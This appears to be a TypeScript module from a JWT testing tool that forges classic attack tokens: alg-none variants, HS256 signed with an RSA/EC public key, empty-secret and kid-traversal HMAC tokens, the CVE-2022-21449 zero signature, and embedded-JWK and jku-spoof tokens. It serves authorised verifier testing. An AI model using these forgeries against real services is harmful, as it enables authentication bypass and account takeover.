// Forges the classic attack tokens from a token's payload, for testing a verifier you are allowed to test.

import { calculateJwkThumbprint, exportJWK, generateKeyPair, type JWK } from 'jose';
import { getJwsAlgorithm, type JwsAlg } from '../jws/algorithms';
import { encodeBase64url, encodeBase64urlText, utf8Encode } from '../shared/base64url';
import { problemFromCryptoError } from '../shared/crypto-errors';
import { readPemBlocks } from '../keys/der';
import { exportParsedKey } from '../keys/key-export';
import { parseKeyInput, type ParsedKey, type SecretEncoding } from '../keys/keys';
import { fail, ok, type Problem, type Result } from '../shared/problems';
import { decodeToken, type JsonObject } from '../token/token';
import { KID_TRAVERSAL, NONE_SPELLINGS, PSYCHIC_ALGS, type AttackId } from './attacks';

/** Why an attack token could not be made. */
export type ForgeProblem =
  /** There is no compact JWS with a JSON header to start from. */
  | { code: 'forge-no-token' }
  /** hs-with-public-key: the key box is empty. */
  | { code: 'forge-no-public-key' }
  /** hs-with-public-key: the key box holds a secret, not an RSA / EC / OKP key. */
  | { code: 'forge-key-not-asymmetric' }
  /** hs-with-public-key: the key box could not be read, or its key not exported. */
  | { code: 'forge-key-unreadable'; problem: Problem }
  /** jku-spoof: no URL given, or not an http(s) URL. */
  | { code: 'forge-url-missing' }
  | { code: 'forge-url-invalid'; url: string }
  | { code: 'forge-crypto-failed'; problem: Problem };

export interface ForgeRequest {
  attack: AttackId;
  /** The current token (compact JWS); its payload segment is reused byte for byte. */
  token: string;
  /** hs-with-public-key: the key box's text (a public or private PEM, a JWK or a JWKS) and its encoding. */
  keyText?: string;
  encoding?: SecretEncoding;
  /** jku-spoof: the URL the forged header points at. */
  url?: string;
}

/** One forged token. An attack makes several when verifiers differ in what they accept (`None`, DER …). */
export interface ForgedVariant {
  /** `none` / `None` …, `pem` / `der` / `jwk` …, `ES256` / `ES384` / `ES512`, or the attack's id. */
  id: string;
  token: string;
  header: JsonObject;
  /** The HMAC key the signature was made with (hs-with-public-key, empty-secret, kid-injection). */
  hmacKey?: Uint8Array;
}

export interface ForgedAttack {
  attack: AttackId;
  variants: ForgedVariant[];
  /** embedded-jwk: the public JWK put in the header. jku-spoof: the JWKS to host at the URL. */
  verificationKey?: JWK | { keys: JWK[] };
}

// Header parameters that name a key: dropped when the forged token brings its own key (kid is set anew).
const KEY_PARAMETERS = ['kid', 'jwk', 'jku', 'x5u', 'x5c', 'x5t', 'x5t#S256'];

/**
 * Makes the tokens of one attack from the current token's payload. Nothing is sent anywhere; fresh keys are
 * made in this call and only their public half is returned.
 * @example const r = await forgeAttack({ attack: 'alg-none', token }); if (r.ok) show(r.value.variants[0].token);
 */
export async function forgeAttack(request: ForgeRequest): Promise<Result<ForgedAttack, ForgeProblem>> {
  const decoded = decodeToken(request.token);
  const original = decoded.header?.value;
  const payload = decoded.parts[1];
  if (decoded.kind === 'jwe' || decoded.parts.length !== 3 || !original || payload === undefined) {
    return fail({ code: 'forge-no-token' });
  }
  try {
    switch (request.attack) {
      case 'alg-none':
        // RFC 7515 §7.1 with an empty signature: the JWS Signature of an unsecured JWS is the empty string.
        return ok({
          attack: 'alg-none',
          variants: NONE_SPELLINGS.map((alg) => {
            const header = { ...original, alg };
            return { id: alg, header, token: `${encodeBase64urlText(JSON.stringify(header))}.${payload}.` };
          }),
        });
      case 'hs-with-public-key':
        return await forgeWithPublicKey(original, payload, request);
      case 'empty-secret': {
        const header = { ...original, alg: 'HS256' };
        return ok({
          attack: 'empty-secret',
          variants: [await hmacVariant('empty-secret', header, payload, new Uint8Array())],
        });
      }
      case 'kid-injection': {
        const header = { ...original, alg: 'HS256', kid: KID_TRAVERSAL };
        return ok({
          attack: 'kid-injection',
          variants: [await hmacVariant('kid-injection', header, payload, new Uint8Array())],
        });
      }
      case 'psychic-signature': {
        // CVE-2022-21449: r = s = 0 written as r‖s (RFC 7518 §3.4) is all zero bytes. The token's own ES alg first.
        const own = PSYCHIC_ALGS.filter((p) => p.alg === original.alg);
        const ordered = [...own, ...PSYCHIC_ALGS.filter((p) => p.alg !== original.alg)];
        return ok({
          attack: 'psychic-signature',
          variants: ordered.map(({ alg, bytes }) => {
            const header = { ...original, alg };
            const input = `${encodeBase64urlText(JSON.stringify(header))}.${payload}`;
            return { id: alg, header, token: `${input}.${encodeBase64url(new Uint8Array(bytes))}` };
          }),
        });
      }
      case 'embedded-jwk':
      case 'jku-spoof':
        return await forgeWithFreshKey(original, payload, request);
    }
  } catch (e) {
    return fail({ code: 'forge-crypto-failed', problem: problemFromCryptoError(e, 'sign') });
  }
}

/** HMAC-SHA256 with any key, the empty one included. */
async function hmacSha256(key: Uint8Array, data: Uint8Array): Promise<Uint8Array> {
  // WebCrypto refuses a zero-length HMAC key (importKey throws DataError), and these attacks need exactly
  // that key: @noble/hashes (audited, no dependencies) is loaded only when a forged token is made.
  const [{ hmac }, { sha256 }] = await Promise.all([
    import('@noble/hashes/hmac.js'),
    import('@noble/hashes/sha2.js'),
  ]);
  return hmac(sha256, key, data);
}

async function hmacVariant(
  id: string,
  header: JsonObject,
  payload: string,
  key: Uint8Array,
): Promise<ForgedVariant> {
  const input = `${encodeBase64urlText(JSON.stringify(header))}.${payload}`;
  const mac = await hmacSha256(key, utf8Encode(input));
  return { id, header, token: `${input}.${encodeBase64url(mac)}`, hmacKey: key };
}

/** The asymmetric key to read as a secret: the JWKS entry the token's kid names, else the first such key. */
function pickPublicKey(keys: ParsedKey[], kid: unknown): ParsedKey | undefined {
  const asymmetric = keys.filter((k) => k.description.kty !== 'oct' && k.material.type !== 'secret');
  return asymmetric.find((k) => kid !== undefined && k.description.kid === kid) ?? asymmetric[0];
}

// RFC 8725 §2.1: a verifier that takes alg from the token and hands its one key to HMAC uses the public key's
// bytes, exactly as it stored them, as the secret. Which bytes those are depends on how it stored the key.
async function forgeWithPublicKey(
  original: JsonObject,
  payload: string,
  request: ForgeRequest,
): Promise<Result<ForgedAttack, ForgeProblem>> {
  const keyText = request.keyText ?? '';
  const reading = parseKeyInput(keyText, request.encoding ?? 'utf8');
  if (reading.state === 'empty') return fail({ code: 'forge-no-public-key' });
  if (reading.state === 'error') return fail({ code: 'forge-key-unreadable', problem: reading.problem });
  const parsed = pickPublicKey(reading.value.keys, original.kid);
  if (!parsed) return fail({ code: 'forge-key-not-asymmetric' });
  const exported = await exportParsedKey(parsed);
  if (!exported.ok) return fail({ code: 'forge-key-unreadable', problem: exported.problem });
  const spkiPem = exported.value.publicPem ?? exported.value.pem;
  const jwk = exported.value.publicJwk ?? exported.value.jwk;
  if (!spkiPem) return fail({ code: 'forge-key-not-asymmetric' });
  const d = parsed.description;
  // A public PEM pasted as such is the file the verifier reads: its own text (line ends normalised), not ours.
  const pastedPublicPem =
    d.format.startsWith('pem-') && d.visibility === 'public' && reading.value.keys.length === 1;
  const pemText = (pastedPublicPem ? keyText.trim() : spkiPem.trim()).replace(/\r\n?/g, '\n');
  const der = readPemBlocks(spkiPem)[0]?.der ?? new Uint8Array();
  const header = { ...original, alg: 'HS256' };
  const forms: [string, Uint8Array][] = [
    // A PEM file as openssl writes it ends with a line break; one pasted into a config often does not.
    ['pem', utf8Encode(`${pemText}\n`)],
    ['pem-no-newline', utf8Encode(pemText)],
    ['der', der],
    // RFC 7638 §3's canonical form (required members in lexicographic order, no whitespace): one definite text.
    ['jwk', utf8Encode(canonicalJwk(jwk))],
  ];
  const variants = await Promise.all(forms.map(([id, key]) => hmacVariant(id, header, payload, key)));
  return ok({ attack: 'hs-with-public-key', variants });
}

/** The public JWK's required members in lexicographic order, as JSON without whitespace (RFC 7638 §3.2). */
function canonicalJwk(jwk: JWK): string {
  const required: Record<string, string[]> = {
    RSA: ['e', 'kty', 'n'],
    EC: ['crv', 'kty', 'x', 'y'],
    OKP: ['crv', 'kty', 'x'],
  };
  const names = required[jwk.kty ?? ''] ?? Object.keys(jwk).sort();
  const record = jwk as Record<string, unknown>;
  return JSON.stringify(Object.fromEntries(names.map((n) => [n, record[n]])));
}

/** The alg for a fresh key pair: the token's own when it is asymmetric, else RS256. */
function freshAlg(alg: unknown): JwsAlg {
  const algorithm = typeof alg === 'string' ? getJwsAlgorithm(alg) : undefined;
  return algorithm && algorithm.family !== 'hmac' ? algorithm.alg : 'RS256';
}

async function forgeWithFreshKey(
  original: JsonObject,
  payload: string,
  request: ForgeRequest,
): Promise<Result<ForgedAttack, ForgeProblem>> {
  let url: string | undefined;
  if (request.attack === 'jku-spoof') {
    url = request.url?.trim() ?? '';
    if (url === '') return fail({ code: 'forge-url-missing' });
    if (!/^https?:\/\//i.test(url) || !URL.canParse(url)) return fail({ code: 'forge-url-invalid', url });
  }
  const alg = freshAlg(original.alg);
  const algorithm = getJwsAlgorithm(alg);
  if (!algorithm) return fail({ code: 'forge-no-token' });
  const { privateKey, publicKey } = await generateKeyPair(alg, { extractable: true });
  const exported = await exportJWK(publicKey);
  const kid = await calculateJwkThumbprint(exported);
  const header: JsonObject = Object.fromEntries(
    Object.entries(original).filter(([name]) => !KEY_PARAMETERS.includes(name)),
  );
  header.alg = alg;
  let verificationKey: ForgedAttack['verificationKey'];
  if (url === undefined) {
    // CVE-2018-0114: a verifier that trusts the header's own jwk accepts whatever key signed the token.
    const jwk: JWK = { ...exported, kid };
    header.jwk = jwk;
    verificationKey = jwk;
  } else {
    header.jku = url;
    header.kid = kid;
    verificationKey = { keys: [{ ...exported, kid, alg, use: 'sig' }] };
  }
  const input = `${encodeBase64urlText(JSON.stringify(header))}.${payload}`;
  // Signed with WebCrypto over the exact signing input, so the payload segment stays byte for byte the same.
  const signature = new Uint8Array(
    await crypto.subtle.sign(algorithm.subtle, privateKey, utf8Encode(input) as Uint8Array<ArrayBuffer>),
  );
  return ok({
    attack: request.attack,
    variants: [{ id: request.attack, header, token: `${input}.${encodeBase64url(signature)}` }],
    verificationKey,
  });
}
